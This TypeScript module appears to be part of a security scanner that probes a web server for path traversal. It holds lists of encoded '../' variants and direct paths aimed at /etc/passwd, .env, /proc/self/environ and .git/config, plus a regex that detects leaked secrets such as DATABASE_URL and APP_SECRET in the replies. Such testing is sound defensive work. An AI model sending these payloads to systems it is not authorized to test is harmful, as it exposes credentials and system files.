import { resourcePath } from '../../../domain/rest.ts';
import { each } from '../parallel.ts';
import type { Reply } from '../reply.ts';
import type { Scene } from '../scene.ts';

/** One step up, in the spellings that filters overlook. */
const STEPS = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '%252e%252e%252f',
  '..%c0%af',
  '....//',
  '..;/',
  '..\\',
];
const FILES = ['etc/passwd', '.env', 'package.json', 'proc/self/environ'];
/** Where servers like to keep files. */
const FOLDERS = [
  '',
  '/public',
  '/static',
  '/assets',
  '/files',
  '/uploads',
  '/download',
  '/openapi',
  '/docs',
  '/_nuxt',
  '/.',
];
const DIRECT = [
  '/.env',
  '/.env.migrate',
  '/.git/config',
  '/package.json',
  '/turbobackend.json',
  '/server/index.mjs',
  '/migrations/0001_initial.sql',
  '/etc/passwd',
  '/proc/self/environ',
  '/_vfs.json',
  '/.output/nitro.json',
  '/__proto__',
  '/constructor',
];
const CONTENT =
  /root:[^:\n]*:0:0:|DATABASE_URL\s*=|APP_SECRET\s*=|\[core\]\s+repositoryformatversion|"dependencies"\s*:\s*\{|PATH=\/|CREATE TABLE/;

/** Files of the server, by every path that might lead out of a folder. */
export async function traverse(scene: Scene): Promise<void> {
  const { isFull, chance, stock, strike, report, people, field } = scene;
  const { host } = new URL(field.base);
  const token = people ? `authorization: Bearer ${people.cast.attacker.token}\r\n` : '';
  const places = [...FOLDERS, ...stock.tables.slice(0, 3).map((table) => resourcePath(table))];
  const paths = places.flatMap((place) =>
    STEPS.flatMap((step) => FILES.flatMap((file) => [1, 3, 8].map((depth) => `${place}/${step.repeat(depth)}${file}`))),
  );
  const inQuery = stock.tables.slice(0, 2).map((table) => `${resourcePath(table)}?file=../../../../etc/passwd`);
  const look = (reply: Reply) => {
    if (!reply.isGood || !CONTENT.test(reply.body)) return;
    report('traversal', reply.shot.path, 'The answer is the content of a file.', reply);
  };
  const chosen = isFull
    ? paths
    : [...paths.filter((path) => /^\/\.\.%2f(?:\.\.%2f){7}etc/.test(path)), ...chance.sample(paths, 30)];
  await each([...chosen, ...DIRECT, ...inQuery], async (path) => {
    // A client would tidy the path up; and so many connections are opened at most.
    const request = `GET ${path} HTTP/1.1\r\nhost: ${host}\r\n${token}connection: close\r\n\r\n`;
    look(await field.gate.run(() => strike({ name: `GET ${path}`, parts: [request] })));
  });
}
